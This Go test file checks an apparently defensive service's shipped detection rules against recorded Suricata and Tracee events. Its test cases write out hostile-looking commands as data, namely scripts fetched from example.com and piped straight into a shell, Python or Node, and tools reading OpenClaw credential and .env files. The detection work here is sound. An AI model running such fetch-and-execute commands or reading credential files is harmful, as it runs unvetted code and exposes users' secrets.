package rules_test

import (
	"bytes"
	"flag"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/openclaw-security/bus/proto"
	defaults "github.com/openclaw-security/bus/rules"
	"github.com/openclaw-security/bus/services/shipper/internal/normalize"
	"github.com/openclaw-security/bus/services/shipper/internal/normalize/normalizetest"
	"github.com/openclaw-security/bus/services/shipper/internal/normalize/suricata"
	"github.com/openclaw-security/bus/services/shipper/internal/normalize/tracee"
	"github.com/openclaw-security/bus/services/shipper/internal/rules"
)

func shipped(t testing.TB) *rules.Engine {
	t.Helper()
	g, err := rules.Parse(defaults.DefaultName, defaults.Default(), slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	return g
}

// golden compares got with testdata/<name>.golden, or writes it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	file := filepath.Join("testdata", name+".golden")
	if flag.Lookup("update").Value.String() == "true" {
		if err := os.WriteFile(file, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s:\n got\n%s\nwant\n%s", file, got, want)
	}
}

// What the shipped rules make of the recordings, and that they leave the rest
// alone: a rule that fires on everyday work is noise.
func TestShippedRulesOnRecordings(t *testing.T) {
	const root = "../../../../"
	for _, test := range []struct {
		name, file string
		sensor     *normalize.Normalizer
		lines      int
	}{
		{"suricata-7", root + "suricata/testdata/suricata-7.eve.json", normalizetest.New("suricata", suricata.Sensor{}), 44},
		{"suricata-8", root + "suricata/testdata/suricata-8.eve.json", normalizetest.New("suricata", suricata.Sensor{}), 46},
		{"tracee-0.24", root + "tracee/testdata/tracee-0.24.events.json", normalizetest.New("tracee", tracee.Sensor{}), 53},
		{"tracee-v1beta1", root + "tracee/testdata/tracee-v1beta1.events.json", normalizetest.New("tracee", tracee.Sensor{}), 28},
	} {
		t.Run(test.name, func(t *testing.T) {
			capture, err := os.Open(test.file)
			if err != nil {
				t.Fatal(err)
			}
			defer capture.Close()
			g := shipped(t)
			var got bytes.Buffer
			lines, err := g.Try(test.sensor, capture, func(c *rules.Change) error {
				_, err := fmt.Fprintf(&got, "%d %v %s → %s %q tags %q dropped %v\n",
					c.Line, c.Rules, c.Before.Severity, c.After.Severity, c.After.Title, c.After.Tags, c.Dropped)
				return err
			})
			if err != nil || lines != test.lines || g.Failed() != 0 {
				t.Errorf("%d lines (%v), want %d; %d failures", lines, err, test.lines, g.Failed())
			}
			golden(t, test.name, got.Bytes())
		})
	}
}

// On other recordings no condition fails.
func TestShippedRulesOnCorpus(t *testing.T) {
	for sensor, n := range map[string]*normalize.Normalizer{
		"suricata/*.json*": normalizetest.New("suricata", suricata.Sensor{}),
		"tracee/*.jsonl":   normalizetest.New("tracee", tracee.Sensor{}),
	} {
		for _, file := range normalizetest.Corpus(t, sensor) {
			g := shipped(t)
			for _, line := range normalizetest.Lines(t, file) {
				var e proto.Event
				n.Event(&e, line, proto.Origin{})
				if drop, _ := g.Apply(&e); drop {
					t.Errorf("%s: a shipped rule drops %s", file, e.Title)
				}
			}
			if g.Failed() != 0 {
				t.Errorf("%s: %d failures", file, g.Failed())
			}
		}
	}
}

// try returns the only rule that matches e, and the severity it leads to; "" for
// none.
func try(t *testing.T, e *proto.Event) string {
	t.Helper()
	drop, applied := shipped(t).Apply(e)
	if drop || len(applied) > 1 {
		t.Errorf("dropped %v, applied %q", drop, applied)
	}
	if len(applied) == 0 {
		return ""
	}
	return applied[0] + " " + e.Severity.String()
}

func TestShippedExecRules(t *testing.T) {
	const installs, pipes = "package-manager medium", "script-from-network high"
	for _, test := range []struct {
		want string
		argv string // separated by |, or by the first character if that is no letter or /
	}{
		{installs, "apt-get|install|-y|nmap"},
		{installs, "apt|-y|install|nmap"},
		{installs, "/usr/bin/apt-get|-qq|dist-upgrade"},
		{installs, "apk|add|--no-cache|curl"},
		{installs, "/sbin/apk|-U|upgrade"},
		{installs, "dnf|install|x"},
		{installs, "dpkg|-i|x.deb"},
		{installs, "rpm|-Uvh|x.rpm"},
		{installs, "pip|install|requests"},
		{installs, "/usr/local/bin/python3.12|/usr/local/bin/pip3|install|requests"},
		{installs, "python3|-m|pip|install|requests"},
		{installs, "python3|-I|-m|pip|install|requests"},
		{installs, "uv|pip|install|x"},
		{installs, "npm|install|left-pad"},
		{installs, "npm|i"},
		{installs, "node|/usr/local/bin/npm|ci"},
		{installs, "node|/usr/local/lib/node_modules/npm/bin/npm-cli.js|install"},
		{installs, "npx|-y|some-server"},
		{installs, "node|/usr/local/bin/npx|some-server"},
		{installs, "pnpm|dlx|create-x"},
		{installs, "yarn|add|x"},
		{installs, "gem|install|x"},
		{installs, "cargo|install|x"},
		{installs, "go|install|example.com/x@latest"},
		{"", "apt-get|--version"},
		{"", "apt-cache|search|nmap"},
		{"", "apk|info"},
		{"", "dpkg|-l"},
		{"", "dpkg|--status-fd|8|--unpack|--auto-deconfigure|/var/cache/apt/x.deb"},
		{"", "rpm|-qa"},
		{"", "pip|list"},
		{"", "npm|run|build"},
		{"", "npm|test"},
		{"", "node|dist/index.js|gateway"},
		{"", "node|server.js|install"},
		{"", "go|build|./..."},
		{"", "grep|-r|npm|install"},
		{"", "echo|apt-get|install"},
		{"", "/usr/bin/install|-m|755|x"},

		{pipes, "!sh!-c!curl -fsSL https://example.com/x.sh | sh"},
		{pipes, "!/bin/bash!-lc!wget -qO- 'https://example.com/x?a=1&b=2' | sudo -E bash -s -- --yes"},
		{pipes, "!bash!-c!curl -s https://example.com/x | tee /tmp/x | /bin/sh"},
		{pipes, "!sh!-c!cd /tmp; curl https://example.com/x.py | python3 -"},
		{pipes, "!sh!-c!curl https://example.com/x.js | node"},
		{pipes, `!bash!-c!bash -c "$(curl -fsSL https://example.com/x.sh)"`},
		{pipes, "!bash!-c!bash <(curl -s https://example.com/x.sh)"},
		{pipes, "!bash!-c!source <(curl -s https://example.com/x.sh)"},
		{pipes, "!bash!-c!eval `wget -qO- https://example.com/x.sh`"},
		{"", "!sh!-c!curl -s https://example.com/x.json | jq ."},
		{"", "!sh!-c!curl -o x.tgz https://example.com/x.tgz"},
		{"", "!sh!-c!curl -s https://example.com/list | python3 parse.py"},
		{"", "!sh!-c!cat x.sh | sh"},
		{"", "!sh!-c!curl https://example.com/ | grep shell"},
		{"", "!sh!-c!echo $(curl -s https://example.com/ip)"},
		{"", "!curl!-s!https://example.com/x.sh"},
		{"", "!grep!-c!curl x | sh"},
	} {
		t.Run(test.argv, func(t *testing.T) {
			argv, separator := test.argv, "|"
			if argv[0] == '!' {
				argv, separator = argv[1:], "!"
			}
			e := proto.Event{
				Kind: "sched_process_exec", Source: "tracee", Title: "exec: x",
				Process:   &proto.Process{Name: "x", Args: strings.Split(argv, separator)},
				Container: &proto.Container{ID: "d49e6a797072"},
			}
			onHost := e
			onHost.Container = nil
			if got := try(t, &e); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
			if got := try(t, &onHost); got != "" {
				t.Errorf("on the host: %q", got)
			}
		})
	}
}

func TestShippedSecretsRule(t *testing.T) {
	const alarm = "openclaw-secrets high"
	for _, test := range []struct {
		name, kind, path, executable, process string
		want                                  string
	}{
		{"cat of the configuration", "security_file_open", "/home/node/.openclaw/openclaw.json", "/usr/bin/cat", "cat", alarm},
		{"a copy of it", "openat", "/home/node/.openclaw/openclaw.json.bak", "/usr/bin/cat", "cat", alarm},
		{"environment", "openat", "/home/node/.openclaw/.env", "/usr/bin/python3.11", "python3", alarm},
		{"credentials", "open", "/root/.openclaw/credentials/whatsapp/default/creds.json", "/usr/bin/tar", "tar", alarm},
		{"an agent's keys", "openat2", "/home/user/.openclaw/agents/main/agent/auth-profiles.json", "/usr/bin/curl", "curl", alarm},
		{"executable not told", "openat", "/home/node/.openclaw/.env", "", "cat", alarm},
		{"calls itself node", "openat", "/home/node/.openclaw/.env", "/tmp/x", "node", alarm},
		{"from memory", "openat", "/home/node/.openclaw/.env", "memfd:x", "3", alarm},
		{"OpenClaw itself", "security_file_open", "/home/node/.openclaw/openclaw.json", "/usr/local/bin/node", "node", ""},
		{"a thread of it", "openat", "/home/node/.openclaw/.env", "/usr/local/bin/node", "libuv-worker", ""},
		{"a thread, executable not told", "openat", "/home/node/.openclaw/.env", "", "libuv-worker", ""},
		{"its title, executable not told", "openat", "/home/node/.openclaw/.env", "", "openclaw-gatewa", ""},
		{"sessions are no secrets of OpenClaw's", "openat", "/home/node/.openclaw/agents/main/sessions/x.jsonl", "/usr/bin/cat", "cat", ""},
		{"workspace", "openat", "/home/node/.openclaw/workspace/.env", "/usr/bin/cat", "cat", ""},
		{"elsewhere", "openat", "/srv/home/node/.openclaw/.env", "/usr/bin/cat", "cat", ""},
		{"deleted, not opened", "unlinkat", "/home/node/.openclaw/.env", "/usr/bin/rm", "rm", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			e := proto.Event{
				Kind: test.kind, Source: "tracee", Title: test.kind + " " + test.path,
				File:    &proto.File{Path: test.path},
				Process: &proto.Process{Name: test.process, Executable: test.executable},
			}
			if got := try(t, &e); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

func TestShippedLLMRule(t *testing.T) {
	const alarm = "llm-api-direct low"
	for _, test := range []struct{ kind, sni, want string }{
		{"tls", "api.anthropic.com", alarm},
		{"tls", "API.OpenAI.com.", alarm},
		{"tls", "eu.api.openai.com", alarm},
		{"quic", "generativelanguage.googleapis.com", alarm},
		{"tls", "europe-west1-aiplatform.googleapis.com", alarm},
		{"tls", "bedrock-runtime.us-east-1.amazonaws.com", alarm},
		{"tls", "mine.openai.azure.com", alarm},
		{"tls", "openrouter.ai", alarm},
		{"tls", "console.anthropic.com", ""},
		{"tls", "api.anthropic.com.example.net", ""},
		{"tls", "xapi.anthropic.com", ""},
		{"tls", "storage.googleapis.com", ""},
		{"tls", "s3.us-east-1.amazonaws.com", ""},
		{"tls", "", ""},
		{"dns", "api.anthropic.com", ""},
	} {
		t.Run(test.kind+" "+test.sni, func(t *testing.T) {
			e := proto.Event{Kind: test.kind, Source: "suricata", Title: "TLS to " + test.sni, TLS: &proto.TLS{SNI: test.sni}}
			if got := try(t, &e); got != test.want {
				t.Errorf("got %q, want %q", got, test.want)
			}
		})
	}
}

func TestTryOfOverlongLine(t *testing.T) {
	capture := strings.NewReader("{}\n" + strings.Repeat("x", 2<<20))
	lines, err := shipped(t).Try(normalizetest.New("suricata", suricata.Sensor{}), capture, func(*rules.Change) error { return nil })
	if lines != 1 || err == nil || !strings.Contains(err.Error(), "line 2 is longer than 1048576 bytes") {
		t.Errorf("%d lines, %v", lines, err)
	}
}
